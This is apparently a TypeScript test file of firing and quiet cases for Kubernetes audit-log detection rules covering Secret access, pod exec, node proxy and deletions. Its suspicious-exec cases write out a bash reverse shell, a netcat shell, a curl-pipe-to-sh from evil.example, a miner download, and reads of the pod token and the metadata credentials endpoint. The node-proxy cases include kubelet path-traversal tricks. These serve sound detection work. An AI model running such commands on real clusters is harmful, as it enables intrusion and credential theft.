import { object, podSpec, pod, workload, ownedBy } from '../objects.ts';
import { account, minute, type Request, type World } from '../world.ts';
import type { Tables } from './table.ts';

const operator = account('ops', 'operator');
const names = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, index) => `${'abcdefghijklmnopqrstuvwxyz'[index % 26] ?? ''}${'xyzw'[index % 4] ?? ''}${index}q`);
const read = (world: World, user: string, secrets: readonly string[], namespace = 'ops'): void =>
  world.each(secrets, (name) => world.request(user, { of: 'secrets', in: namespace, name }));

const session =
  (user: string, request: Request = {}) =>
  (world: World): void =>
    world.request(user, {
      verb: 'create',
      of: 'pods/exec',
      in: 'shop',
      name: 'web-5d4f8c7b9-x2k4v',
      code: 101,
      stage: 'ResponseStarted',
      ...request,
    });
const run =
  (...command: readonly string[]) =>
  (world: World): void => {
    const query = command.map((each) => `command=${encodeURIComponent(each)}`).join('&');
    session('alice', { uri: `/api/v1/namespaces/shop/pods/web-5d4f8c7b9-x2k4v/exec?${query}&container=main&stdout=true` })(world);
  };
const proxy =
  (path: string, user = 'eve') =>
  (world: World): void =>
    world.request(user, { of: 'nodes/proxy', name: 'node-a', uri: `/api/v1/nodes/node-a/proxy${path}` });

/** What Helm reads of its own. */
function releases(world: World, namespace: string): void {
  const uri = `/api/v1/namespaces/${namespace}/secrets?labelSelector=name%3Dcart%2Cowner%3Dhelm%2Cstatus%3Ddeployed`;
  world.request('alice', { verb: 'list', of: 'secrets', in: namespace, uri });
  world.request('alice', { of: 'secrets', in: namespace, name: 'sh.helm.release.v1.cart.v1' });
}

/** Detections about Secrets, sessions and nodes. */
export const dataAccessTables: Tables = {
  'cluster-wide-secret-list': {
    fires: [
      ['a list of all Secrets', (world) => world.request('eve', { verb: 'list', of: 'secrets' }), { actor: 'eve', severity: 'high' }],
      ['a watch of all Secrets', (world) => world.request('eve', { verb: 'watch', of: 'secrets', stage: 'ResponseStarted' })],
      [
        'an account that reads single Secrets otherwise',
        (world) => {
          world.usually(() => read(world, operator, ['db']));
          world.request(operator, { verb: 'list', of: 'secrets' });
        },
        { actor: operator },
      ],
    ],
    quiet: [
      [
        'a controller that watches them',
        (world) => {
          world.usually(() => world.request(operator, { verb: 'list', of: 'secrets' }));
          world.request(operator, { verb: 'watch', of: 'secrets', stage: 'ResponseStarted' });
        },
      ],
      ['a list in one namespace', (world) => world.request('eve', { verb: 'list', of: 'secrets', in: 'shop' })],
      ['a list that was denied', (world) => world.request('eve', { verb: 'list', of: 'secrets', code: 403 })],
    ],
  },
  'secret-spread': {
    fires: [
      [
        'eleven Secrets in a minute',
        (world) => read(world, operator, names(11)),
        { actor: operator, severity: 'high', seen: /read 11 different Secrets/ },
      ],
      [
        'more than usual',
        (world) => {
          world.usually(() => read(world, operator, names(12)));
          read(world, operator, names(40));
        },
      ],
      [
        'many Secrets over a day, one every ten minutes',
        (world) => {
          for (const name of names(60)) {
            world.wait(11 * minute);
            read(world, operator, [name]);
          }
        },
        { seen: /slowly/ },
      ],
    ],
    quiet: [
      ['ten Secrets', (world) => read(world, operator, names(10))],
      ['one Secret a hundred times', (world) => names(100).forEach(() => read(world, operator, ['db']))],
      [
        'as many as every day',
        (world) => {
          world.usually(() => read(world, operator, names(40)));
          read(world, operator, names(40));
        },
      ],
      ['a kubelet that starts pods', (world) => read(world, 'system:node:node-a', names(40))],
      [
        'reads that were denied',
        (world) => world.each(names(40), (name) => world.request('eve', { of: 'secrets', in: 'x', name, code: 403 })),
      ],
    ],
  },
  'secret-read': {
    fires: [
      ['a person', (world) => read(world, 'alice', ['db'], 'shop'), { actor: 'alice', seen: /read Secret shop\/db/ }],
      [
        'an account in another namespace than usual',
        (world) => {
          world.usually(() => read(world, operator, ['db'], 'shop'));
          read(world, operator, ['ledger'], 'bank');
        },
        { actor: operator, severity: 'medium' },
      ],
      [
        'a list in a namespace',
        (world) => world.request('alice', { verb: 'list', of: 'secrets', in: 'shop' }),
        { seen: /used list on the Secrets of namespace shop/ },
      ],
      [
        'another Secret than a release, by a user of Helm',
        (world) => {
          world.usually(() => releases(world, 'shop'));
          read(world, 'alice', ['db'], 'bank');
        },
        { seen: /read Secret bank\/db/ },
      ],
      ['the first releases of Helm', (world) => releases(world, 'shop')],
    ],
    quiet: [
      ['an account in its own namespace', (world) => read(world, operator, ['db'])],
      [
        'a person who reads them every day',
        (world) => {
          world.usually(() => read(world, 'alice', ['db'], 'shop'));
          read(world, 'alice', ['other'], 'shop');
        },
      ],
      [
        'a user of Helm who installs to another namespace',
        (world) => {
          world.usually(() => releases(world, 'shop'));
          releases(world, 'bank');
        },
      ],
      [
        'the namespace controller in a namespace that is deleted',
        (world) =>
          world.request(account('kube-system', 'namespace-controller'), {
            verb: 'list',
            of: 'secrets',
            in: 'old',
            annotations: {
              'authorization.k8s.io/reason':
                'RBAC: allowed by ClusterRoleBinding "system:controller:namespace-controller" of ClusterRole "x" to ServiceAccount "x"',
            },
          }),
      ],
      ['a kubelet', (world) => read(world, 'system:node:node-a', ['db'], 'shop')],
      [
        'the next preview namespace of a controller',
        (world) => {
          world.usually(() => read(world, operator, ['db'], 'pr-4711'));
          read(world, operator, ['db'], 'pr-4712');
        },
      ],
    ],
  },
  'exec-into-pod': {
    fires: [
      ['a session by SPDY', session('alice'), { actor: 'alice', severity: 'medium' }],
      ['a session by websocket, which is a get', session('alice', { verb: 'get' })],
      ['attach', session('alice', { of: 'pods/attach' })],
      ['a session in kube-system', session('alice', { in: 'kube-system', name: 'kube-proxy-abcde' }), { severity: 'high' }],
      ['a forwarded port', session('alice', { of: 'pods/portforward' }), { severity: 'low' }],
      [
        'a session in a privileged pod',
        (world) => {
          world.found(pod('shop/agent', podSpec('agent', {}, { securityContext: { privileged: true } })));
          session('alice', { name: 'agent' })(world);
        },
        { severity: 'high' },
      ],
    ],
    quiet: [
      [
        'a session in the next pod of the same workload',
        (world) => {
          world.usually(() => session('alice', { name: 'web-5d4f8c7b9-bcdfg' })(world));
          session('alice', { name: 'web-6c7d9f5b44-hjklm' })(world);
        },
      ],
      ['a session that was denied', session('alice', { code: 403, stage: 'ResponseComplete' })],
      ['a pod that is read', (world) => world.request('alice', { of: 'pods', in: 'shop', name: 'web' })],
      ['a log that is read', (world) => world.request('alice', { of: 'pods/log', in: 'shop', name: 'web' })],
    ],
  },
  'suspicious-exec': {
    fires: [
      ['a reverse shell', run('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), { severity: 'high', seen: /reverse shell/ }],
      ['the token of the pod', run('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'), { seen: /token of the pod/ }],
      ['the metadata service', run('curl', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/')],
      ['a download that is run', run('sh', '-c', 'curl -s https://evil.example/x.sh | sh')],
      ['a download', run('wget', 'https://evil.example/xmrig')],
      ['netcat', run('nc', '203.0.113.9', '4444', '-e', '/bin/sh')],
    ],
    quiet: [
      ['a shell', run('sh')],
      ['a health check by curl', run('curl', '-s', 'http://localhost:8080/healthz')],
      ['a file that is listed', run('ls', '-l', '/app/tokens')],
      ['the dump of a database', run('pg_dump', '-U', 'app', '-f', '/tmp/out.sql', 'shop')],
      [
        'a command that was denied',
        (world) =>
          session('eve', {
            code: 403,
            stage: 'ResponseComplete',
            uri: '/x?command=cat&command=/run/secrets/kubernetes.io/serviceaccount/token',
          })(world),
      ],
    ],
  },
  'node-proxy': {
    fires: [
      ['the pods of a kubelet', proxy('/pods'), { actor: 'eve', severity: 'high' }],
      [
        'a command by the kubelet',
        (world) =>
          world.request('eve', {
            verb: 'create',
            of: 'nodes/proxy',
            name: 'node-a',
            uri: '/api/v1/nodes/node-a/proxy/run/shop/web/main?cmd=id',
          }),
        { seen: /\/run of the kubelet/ },
      ],
      ['a path that hides behind metrics', proxy('/metrics/../run/shop/web/main')],
      ['a path with an escaped slash', proxy('/metrics%2f..%2frun%2fshop')],
    ],
    quiet: [
      ['metrics', proxy('/metrics/cadvisor')],
      ['statistics', proxy('/stats/summary')],
      [
        'a tool that always does so',
        (world) => {
          world.usually(() => proxy('/pods', operator)(world));
          proxy('/pods', operator)(world);
        },
      ],
      [
        'a denied request',
        (world) => world.request('eve', { of: 'nodes/proxy', name: 'node-a', uri: '/api/v1/nodes/node-a/proxy/pods', code: 403 }),
      ],
    ],
  },
  'events-deleted': {
    fires: [
      [
        'an Event',
        (world) => world.request('eve', { verb: 'delete', of: 'events', in: 'shop', name: 'x' }),
        { actor: 'eve', severity: 'medium' },
      ],
      [
        'Events by a deletion that says that it is a dry run, for the API server does not heed it beside a body',
        (world) => {
          const uri = '/api/v1/namespaces/shop/events?dryRun=All';
          world.request('eve', { verb: 'deletecollection', of: 'events', in: 'shop', uri });
        },
      ],
      ['all Events of a namespace', (world) => world.request('eve', { verb: 'deletecollection', of: 'events', in: 'shop' })],
      ['Events of the newer group', (world) => world.request('eve', { verb: 'deletecollection', of: 'events.events.k8s.io', in: 'shop' })],
    ],
    quiet: [
      [
        'the end of a namespace',
        (world) => world.request(account('kube-system', 'namespace-controller'), { verb: 'deletecollection', of: 'events', in: 'pr-1' }),
      ],
      ['Events that are read', (world) => world.request('alice', { verb: 'list', of: 'events', in: 'shop' })],
      ['a deletion that was denied', (world) => world.request('eve', { verb: 'delete', of: 'events', in: 'shop', name: 'x', code: 403 })],
    ],
  },
  'ephemeral-container-added': {
    fires: [
      ['kubectl debug', debug('eve'), { actor: 'eve', severity: 'medium', seen: /docker\.io\/library\/busybox/ }],
      ['kubectl debug without audit events', debug(undefined)],
      [
        'kubectl debug in another namespace than usual',
        (world) => {
          world.usually(() => debug('alice', 'test')(world));
          debug('alice', 'bank')(world);
        },
      ],
    ],
    quiet: [
      [
        'who always debugs there',
        (world) => {
          world.usually(() => debug('alice', 'test', `x${world.now}`)(world));
          debug('alice', 'test')(world);
        },
      ],
      ['a pod that starts', (world) => world.write('alice', pod('shop/web', podSpec('web')))],
      [
        'a change of the labels of a pod',
        (world) => {
          world.write('alice', pod('shop/web', podSpec('web')));
          world.write('alice', pod('shop/web', podSpec('web'), { metadata: { labels: { a: 'b' } } }));
        },
      ],
    ],
  },
  'mass-deletion': {
    fires: [
      ['eleven workloads', deletions('eve', 11), { actor: 'eve', severity: 'high', seen: /eve deleted 11 workloads/ }],
      ['eleven workloads without audit events', deletions(undefined, 11), { seen: /somebody deleted 11/ }],
      [
        'volume claims and namespaces',
        (world) => {
          for (const name of names(6)) world.remove('eve', object('PersistentVolumeClaim', `shop/${name}`));
          for (const name of names(6)) world.remove('eve', object('Namespace', name));
        },
      ],
      ...['labelSelector=owner%3Dhelm', 'labelSelector=owner=helm,;', 'dryRun=All'].map(
        (query) =>
          [
            `all Secrets of a namespace at once, with ${query}`,
            (world: World) => {
              const uri = `/api/v1/namespaces/shop/secrets?${query}`;
              world.request('eve', { verb: 'deletecollection', of: 'secrets', in: 'shop', uri });
            },
            { actor: 'eve' },
          ] as const,
      ),
    ],
    quiet: [
      [
        'old revisions of releases, which Helm deletes',
        (world) =>
          world.each('abcdefghijklmnop'.split(''), (release) =>
            world.request('alice', { verb: 'delete', of: 'secrets', in: 'shop', name: `sh.helm.release.v1.${release}.v1` }),
          ),
      ],
      ['ten workloads', deletions('alice', 10)],
      [
        'what belongs to something that was deleted',
        (world) =>
          names(30).forEach((name) =>
            world.remove(account('kube-system', 'generic-garbage-collector'), workload('Deployment', `shop/${name}`, podSpec('x'))),
          ),
      ],
      [
        'the contents of a namespace that ends',
        (world) => {
          world.remove('alice', object('Namespace', 'shop'));
          for (const name of names(30))
            world.remove(account('kube-system', 'namespace-controller'), workload('Deployment', `shop/${name}`, podSpec('x')));
        },
      ],
      [
        'as many as every day',
        (world) => {
          world.usually(() => deletions(operator, 20)(world));
          deletions(operator, 20)(world);
        },
      ],
      [
        'pods of a node that is drained',
        (world) =>
          names(60).forEach((name) =>
            world.remove('alice', pod(`shop/web-${name}`, podSpec('web'), { metadata: ownedBy('ReplicaSet', 'web-5d4f8c7b9') })),
          ),
      ],
    ],
  },
};

function debug(user: string | undefined, namespace = 'shop', name = 'web') {
  return (world: World): void => {
    const spec = podSpec('web');
    world.write('system:kube-scheduler', pod(`${namespace}/${name}`, spec));
    world.write(user, pod(`${namespace}/${name}`, { ...spec, ephemeralContainers: [{ name: 'debugger', image: 'busybox' }] }), {
      verb: 'patch',
      of: 'pods/ephemeralcontainers',
    });
  };
}

function deletions(user: string | undefined, count: number) {
  return (world: World): void => {
    for (const name of names(count)) world.remove(user, workload('Deployment', `shop/${name}`, podSpec('x')));
  };
}
